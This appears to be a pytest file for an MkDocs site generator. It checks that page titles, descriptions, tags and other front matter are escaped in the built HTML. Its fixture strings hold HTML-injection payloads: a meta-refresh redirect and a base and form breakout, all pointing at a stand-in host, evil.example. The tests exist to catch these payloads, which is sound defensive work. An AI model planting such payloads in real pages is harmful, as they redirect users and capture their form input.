"""What front matter says reaches a page as text, though themes print it as it is."""

from __future__ import annotations

import pytest
from lxml import html

from .building import build, write_site

LEADS_AWAY = '0;url=http://evil.example/" http-equiv="refresh'
BREAKS_OUT = "</title></a><base href='http://evil.example/'><form action=//evil.example><b>"
HOSTILE = f"{LEADS_AWAY}'{BREAKS_OUT}".replace("'", "''")
PAGE = f"""---
title: '{HOSTILE}'
description: '{HOSTILE}'
author: '{HOSTILE}'
tags: ['{HOSTILE}']
speaker:
  - name: '{HOSTILE}'
    '{HOSTILE}': 5
source: ['{HOSTILE}']
---

Text.
""".encode()
PLAIN = b"""---
title: Say "no" & mean it, don't <em>hint</em>
description: 'Why "no" is <b>kind</b>; R&D, Q&amp;A and a=1&b=2.'
---

Text.
"""
OWN = b"""{% extends "base.html" %}
{% block extrahead %}{% if page %}
{% for each in page.meta.speaker or [] %}{% for name, value in each.items() %}
<meta name="{{ name }}" content='{{ value }}' data-short="{{ (name ~ value) | truncate(80) }}">
{% endfor %}{% endfor %}
<meta name="twice" content="{{ page.meta.description | e }}">
<meta name="cut" content="{{ (page.meta.description or '') | truncate(12, true, '', 0) | e }}">
{% endif %}{% endblock %}
"""
HEADING = b"# How `</title><script>` ends\n"


def config(theme: str, *plugins: str) -> bytes:
    listed = "".join(f"  - {name}\n" for name in plugins)
    folder = ", custom_dir: own" if theme == "material" else ""
    font = ", font: false" if theme == "material" else ""
    return (
        f"site_name: Small\nsite_url: https://small.example/\n"
        f"theme: {{name: {theme}{folder}{font}}}\nplugins:\n{listed}"
    ).encode()


SITE = {
    "docs/hostile.md": PAGE,
    "docs/plain.md": PLAIN,
    "docs/heading.md": HEADING,
    "docs/tip.md": b"# Q & A\n\n/// tip | Ask\n    id: ask\n\nAsk once.\n///\n",
    "docs/tips.md": b"# Tips\n\n/// tips\n///\n",
    "docs/blog/index.md": b"# Blog\n",
    "docs/labels.md": b"# Labels\n\n<!-- material/tags -->\n",
    "docs/blog/posts/a.md": PAGE.replace(b"---\n", b"---\ndate: 2026-01-02\n", 1),
    "docs/blog/posts/b.md": b"""---
date: 2026-01-03
links:
  - tip.md
  - Ask & <b>wait</b>: plain.md
---

# B
""",
    "own/main.html": OWN,
}


def elements(page: str, found: str) -> list[html.HtmlElement]:
    return html.fromstring(page).xpath(found)


LEADING = "//meta[@http-equiv='refresh'] | //base | //form[contains(@action, 'evil')] | //title//*"


@pytest.fixture(scope="module")
def material(tmp_path_factory):
    folder = tmp_path_factory.mktemp("material")
    plugins = (
        "search: {lang: en}",
        "tags",
        "playbook/publish",
        "playbook/worksheets",
        "playbook/blog",
    )
    write_site(folder, {**SITE, "mkdocs.yml": config("material", *plugins)})
    return build(folder, strict=False)


def test_no_value_of_front_matter_becomes_an_element(material):
    assert material.code == 0, material.output
    pages = [path for path in material.folder.rglob("*.html") if "go" not in path.parts]
    assert len(pages) >= 6
    for path in pages:
        page = path.read_text(encoding="utf-8")
        assert elements(page, LEADING) == [], path


def test_a_heading_that_names_tags_ends_no_title(material):
    page = material.page("heading/index.html")
    assert elements(page, "//title/text()") == ["How </title><script> ends - Small"]


def test_quotes_and_signs_of_an_author_read_right(material):
    page = material.page("plain/index.html")
    said = 'Why "no" is <b>kind</b>; R&D, Q&A and a=1&b=2.'
    assert elements(page, "//meta[@name='description']/@content") == [said]
    assert elements(page, "//meta[@name='twice']/@content") == [said]
    assert elements(page, "//meta[@name='cut']/@content") == ['Why "no" is ']
    title = """Say "no" & mean it, don't <em>hint</em>"""
    assert elements(page, "//title/text()") == [f"{title} - Small"]
    [named] = [each.strip() for each in elements(page, "//h1/text()")]
    assert named == title


def test_a_tip_names_its_page_as_it_is_called(material):
    assert elements(material.page("tips/index.html"), "//*[@class='pb-tip-foot']/text()") == [
        "from Q & A"
    ]
    [called] = elements(material.page("tip/index.html"), "//meta[@property='og:title']/@content")
    assert called == "Q & A"


def test_a_reference_is_called_as_its_page_or_its_author_says(material):
    page = material.page("blog/2026/01/03/b/index.html")
    found = elements(page, "//nav[contains(@class, 'pb-post-references')][1]//a/text()")
    assert found == ["Q & A", "Ask & <b>wait</b>"]


@pytest.mark.parametrize("theme", ["mkdocs", "readthedocs"])
@pytest.mark.parametrize("plugin", ["playbook/publish"])
def test_so_it_is_with_other_themes(theme, plugin, tmp_path):
    files = {name: text for name, text in SITE.items() if "/blog/" not in name}
    write_site(tmp_path, {**files, "mkdocs.yml": config(theme, "search", plugin)})
    made = build(tmp_path, strict=False)
    assert made.code == 0, made.output
    for name in ("hostile", "plain", "heading"):
        page = made.page(f"{name}/index.html")
        assert elements(page, LEADING) == [], name
    title = """Say "no" & mean it, don't <em>hint</em>"""
    assert elements(made.page("plain/index.html"), "//title/text()") == [f"{title} - Small"]
    found = made.page("search/search_index.json")
    assert '"title":"Say \\"no\\" & mean it, don\'t <em>hint</em>"' in found
